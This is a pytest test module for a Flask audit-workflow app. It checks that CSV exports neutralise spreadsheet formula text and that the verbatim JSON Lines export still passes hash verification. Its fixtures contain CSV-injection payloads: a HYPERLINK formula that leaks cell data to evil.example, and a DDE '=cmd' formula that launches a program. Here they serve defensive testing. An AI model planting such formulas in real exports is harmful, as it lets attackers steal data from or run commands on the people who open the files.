"""CSV exports neutralise formula text; the verified JSON Lines export keeps it verbatim."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from flask import Flask

from api.extensions import db
from tests.support.app import Api
from tests.support.audit_history import AUDIT_KEY, RISK1, SALES1, checkpoint, export
from workflow.engine import firing as engine


@pytest.fixture
def app(loop_app: Flask) -> Flask:
    """This module's app also loads ``test_loop`` (the hostile case runs on it)."""
    return loop_app


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
COMMAND = "=cmd|' /C calc'!A0"
LEVEL = "@SUM(1+1)"


@pytest.fixture
def hostile_case(app: Flask) -> int:
    """A closed loop whose comment, idempotency key and level are formula text."""
    with app.app_context():
        case = engine.start(db.session, "test_loop", SALES1, data={"level": LEVEL}).id
        engine.fire(
            db.session, case, "respond", SALES1, {}, comment=HYPERLINK, idempotency_key=COMMAND
        )
        engine.fire(db.session, case, "rectify", SALES1, {}, comment="-1 day late")
        engine.fire(db.session, case, "review", RISK1, {})
        db.session.commit()
    return case


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))


def test_the_audit_csv_neutralises_formula_text_and_keeps_the_chain_columns(
    app: Flask, api: Api, hostile_case: int
) -> None:
    checkpoint(app)
    rows = csv_rows(export(api, instance_id=hostile_case, format="csv"))
    respond = next(r for r in rows if r["trigger"] == "respond")
    assert respond["comment"] == "'" + HYPERLINK
    assert respond["idempotency_key"] == "'" + COMMAND
    assert next(r for r in rows if r["trigger"] == "rectify")["comment"] == "'-1 day late"
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The hashes are those of the verbatim values, as in the JSON Lines file.
    lines = [
        json.loads(line) for line in export(api, instance_id=hostile_case).decode().splitlines()
    ]
    records = [r for r in lines if r["type"] == "record"]
    assert [r["hash"] for r in rows if r["type"] == "record"] == [r["hash"] for r in records]


def test_an_export_with_formula_text_still_verifies_with_riskloop_verify_export(
    app: Flask, api: Api, hostile_case: int, tmp_path: Path
) -> None:
    checkpoint(app)
    content = export(api, instance_id=hostile_case)
    respond = next(
        json.loads(line) for line in content.decode().splitlines() if '"respond"' in line
    )
    assert respond["comment"] == HYPERLINK and respond["idempotency_key"] == COMMAND
    target, key = tmp_path / "export.jsonl", tmp_path / "audit.key"
    target.write_bytes(content)
    key.write_text(AUDIT_KEY)
    script = Path(sys.executable).parent / "riskloop-verify-export"
    result = subprocess.run(
        [str(script), str(target), "--key-file", str(key)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "verified 4 records in 1 streams; 4 proven" in result.stdout


def test_report_csvs_neutralise_formula_text(app: Flask, api: Api, hostile_case: int) -> None:
    r = api.get("auditor1", "/api/v1/reports/closed-loops", query_string={"format": "csv"})
    assert r.status_code == 200
    rows = [row for row in csv_rows(r.get_data()) if row["id"] == str(hostile_case)]
    assert rows and {row["level"] for row in rows} == {"'" + LEVEL}
